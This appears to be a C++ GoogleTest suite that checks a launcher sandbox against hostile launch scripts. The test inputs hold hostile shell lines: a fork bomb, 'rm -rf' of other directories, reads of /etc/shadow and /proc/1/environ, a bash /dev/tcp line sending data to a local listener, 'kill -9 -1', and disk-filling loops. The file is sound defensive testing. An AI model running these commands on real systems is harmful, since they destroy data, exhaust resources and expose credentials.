#include <arpa/inet.h>
#include <gmock/gmock.h>
#include <grp.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <fstream>

#include "guard/unique_fd.h"
#include "import_home.h"
#include "launcher/product/learn/landlock.h"
#include "tests/support/child.h"
#include "tests/support/must_run.h"

namespace jarmor::launcher {
namespace {

using ::testing::HasSubstr;
using ::testing::IsEmpty;

constexpr unsigned runner = 54399;

enum class Caller { root, user };

/// Each script is judged from outside: by files, processes and connections that are there or not.
class HostileScript : public ::testing::TestWithParam<Caller> {
  protected:
    void SetUp() override {
        JARMOR_NEED(::geteuid() == 0, "needs root, to become another user and to see its processes");
        JARMOR_NEED(learn::landlock_version() > 0, "needs a kernel with Landlock");
        home_.add("../secret", "the-secret-of-another-user\n", 0600);
        home_.add("../victim/precious", "precious\n", 0666);
        std::filesystem::create_directory(home_.beside("scratch"));
        ASSERT_EQ(::chmod(home_.beside("scratch").c_str(), 0777), 0);
        // What the script could change if nothing but the modes of files kept it.
        ASSERT_EQ(::chmod(home_.beside("victim").c_str(), 0777), 0);
        ASSERT_EQ(::chmod((home_.path() + "/bin").c_str(), 0777), 0);
    }

    /// Learns from the script as this test's caller; the error's line, or the profile.
    support::Outcome learn(unsigned seconds = 10) {
        auto request = home_.request();
        request.seconds = seconds;
        const std::string before = home_.state();
        const auto outcome = support::run_child(
            [&] {
                if (GetParam() == Caller::user &&
                    (::setgroups(0, nullptr) != 0 || ::setgid(runner) != 0 || ::setuid(runner) != 0))
                    return 125;
                if (::setenv("TMPDIR", home_.beside("scratch").c_str(), 1) != 0) return 125;
                auto learned = learn_script(request);
                const std::string text = learned ? script_toml(learned->launch) : learned.error().line();
                std::fputs(text.c_str(), stdout);
                std::fflush(stdout);
                return learned ? 0 : 1;
            },
            std::chrono::seconds(90));
        EXPECT_EQ(home_.state(), before) << "something beside the scratch home changed";
        EXPECT_THAT(support::processes_of(runner), IsEmpty()) << "something is left of the script";
        return outcome;
    }

    void hostile(const std::string& lines) { home_.set_script(lines, "org.example.Main \"$@\""); }

    support::ImportHome home_;
};

TEST_P(HostileScript, AForkBombEndsWithTheRun) {
    hostile("bomb() { bomb | bomb & }\nbomb\nwait");
    const auto outcome = learn(2);
    // At the limit of processes the shell gives up or goes on; either way it is over.
    EXPECT_LE(outcome.code, 1) << outcome.out << outcome.err;
}

TEST_P(HostileScript, WhatLeavesItsSessionAndItsParentIsFound) {
    hostile("setsid sh -c 'setsid sleep 300 & sleep 300' </dev/null >/dev/null 2>&1 &");
    const auto outcome = learn();
    EXPECT_EQ(outcome.code, 0) << outcome.out;
}

TEST_P(HostileScript, NothingIsWrittenOutsideTheScratchHome) {
    const std::string mark = "/tmp/jarmor-hostile-" + std::to_string(::getpid());
    hostile("echo x >" + mark + "\necho x >/var/tmp/jarmor-hostile\necho x >/dev/shm/jarmor-hostile\n" +
            "echo x >" + home_.beside("victim/new") + "\necho x >>" + home_.beside("victim/precious") + "\n" +
            "r=" + home_.beside("hom") + "; echo x >\"${r}e/bin/new\"\n" +
            "ln -s \"${r}e\" \"$CARBON_HOME/out\"; echo x >\"$CARBON_HOME/out/bin/new2\"\n" +
            "echo x >\"$CARBON_HOME/../../../../../../../.." + home_.beside("victim/new3") + "\"\n" +
            "rm -rf " + home_.beside("victim") + " \"${r}e\"\nchmod 777 " + home_.beside("victim/precious"));
    const auto outcome = learn();
    EXPECT_EQ(outcome.code, 0) << outcome.out;
    for (const std::string& path :
         {mark, std::string("/var/tmp/jarmor-hostile"), std::string("/dev/shm/jarmor-hostile")})
        EXPECT_FALSE(std::filesystem::exists(path)) << path;
}

TEST_P(HostileScript, AnEndlessLoopIsEndedAndSaid) {
    hostile("while :; do :; done");
    const auto outcome = learn(1);
    EXPECT_EQ(outcome.code, 1);
    EXPECT_THAT(outcome.out, HasSubstr("bin/wso2server.sh: ran longer"));
}

TEST_P(HostileScript, OneThatWaitsForEverIsEndedAndSaid) {
    hostile("sleep 1000");
    EXPECT_THAT(learn(1).out, HasSubstr("ran longer"));
}

TEST_P(HostileScript, ManyFilesDoNotFillTheDisk) {
    hostile(
        "n=0; while :; do n=$((n + 1)); mkdir \"$CARBON_HOME/d$n\"; for i in 0 1 2 3 4 5 6 7 8 9; do : "
        ">\"$CARBON_HOME/d$n/$i\"; done; done");
    EXPECT_EQ(learn(5).code, 1);
}

TEST_P(HostileScript, BigFilesDoNotFillTheDisk) {
    hostile("n=0; while :; do n=$((n + 1)); head -c 100000000 /dev/zero >\"$CARBON_HOME/big$n\"; done");
    const auto outcome = learn(5);
    EXPECT_EQ(outcome.code, 1);
    EXPECT_THAT(outcome.out, HasSubstr("wrote more than 32 MiB"));
}

TEST_P(HostileScript, OtherPeoplesFilesAreNotRead) {
    hostile("cat /etc/shadow /etc/passwd " + home_.beside("secret") + " " + home_.beside("victim/precious") +
            " /proc/1/environ /proc/self/status 2>/dev/null | sed 's/^/got /'");
    const auto outcome = learn();
    EXPECT_EQ(outcome.code, 0) << outcome.out;
    EXPECT_EQ(outcome.out.find("got "), std::string::npos) << outcome.out;
}

TEST_P(HostileScript, NoConnectionIsMade) {
    const guard::UniqueFd server(::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0));
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t size = sizeof address;
    auto* any = reinterpret_cast<sockaddr*>(&address);
    ASSERT_EQ(::bind(server.get(), any, size), 0);
    ASSERT_EQ(::listen(server.get(), 4), 0);
    ASSERT_EQ(::getsockname(server.get(), any, &size), 0);
    JARMOR_NEED(::access("/bin/bash", X_OK) == 0, "needs bash, for its /dev/tcp");
    hostile("bash -c 'echo stolen >/dev/tcp/127.0.0.1/" + std::to_string(ntohs(address.sin_port)) +
            "' 2>/dev/null");
    const auto outcome = learn();
    EXPECT_EQ(outcome.code, 0) << outcome.out;
    EXPECT_LT(::accept(server.get(), nullptr, nullptr), 0) << "a connection arrived";
}

TEST_P(HostileScript, ItsSignalsReachNobody) {
    hostile("kill -9 $PPID; kill -9 -1; kill -9 1; kill -9 0");
    const auto outcome = learn();
    EXPECT_EQ(outcome.code, 0) << outcome.out << outcome.err;
}

TEST_P(HostileScript, OutputWithoutEndIsCutAndSaid) {
    hostile("yes 'a line of output' | head -c 100000000");
    const auto outcome = learn();
    EXPECT_EQ(outcome.code, 1);
    EXPECT_THAT(outcome.out, HasSubstr("printed more than 1 MiB"));
}

TEST_P(HostileScript, EmptyingTmpDoesNotReachThroughALinkInTheRealHome) {
    std::filesystem::remove_all(home_.path() + "/tmp");
    std::filesystem::create_directory_symlink(home_.beside("victim"), home_.path() + "/tmp");
    hostile("rm -rf \"$CARBON_HOME\"/tmp/*\nrm -rf \"$(readlink -f \"$CARBON_HOME/tmp\")\"/*");
    const auto outcome = learn();
    EXPECT_EQ(outcome.code, 0) << outcome.out;
    EXPECT_THAT(outcome.out, HasSubstr("purge = \"tmp\""));
}

TEST_P(HostileScript, LinksInPlaceOfTheRecordingsAreNotFollowed) {
    hostile(
        "cd \"$CARBON_HOME/../record\" && rm -rf 0 && mkdir 0 && ln -s /etc/passwd 0/argv && ln -s "
        "/etc/passwd "
        "0/env && ln -s /etc/passwd 0/cwd && : >0/whole");
    const auto outcome = learn();
    EXPECT_EQ(outcome.code, 1);
    EXPECT_EQ(outcome.out.find("root:"), std::string::npos);
    EXPECT_THAT(outcome.out, HasSubstr("the script changed what its stand-in java wrote down"));
}

TEST_P(HostileScript, TheStandInStaysAsItIsAndTheScriptGetsNoRights) {
    home_.set_script(
        "echo 'echo forged' >\"$JAVA_HOME/bin/java\"; rm -f \"$JAVA_HOME/bin/java\"\n"
        "[ \"$(id -u)\" = " +
            std::to_string(runner) +
            " ] || more=-Dother.user=1\n"
            "unshare -Ur true 2>/dev/null && more=-Dnamespaces=1\n"
            "[ \"$(ulimit -c)\" = 0 ] || more=-Dcore=1",
        "$more org.example.Main \"$@\"");
    const auto outcome = learn();
    EXPECT_EQ(outcome.code, 0) << outcome.out;
    EXPECT_THAT(outcome.out, HasSubstr("\"${class_path}\", \"org.example.Main\"]"));
}

INSTANTIATE_TEST_SUITE_P(, HostileScript, ::testing::Values(Caller::root, Caller::user),
                         [](const auto& which) {
                             return which.param == Caller::root ? "AsRoot" : "AsAUser";
                         });

}  // namespace
}  // namespace jarmor::launcher
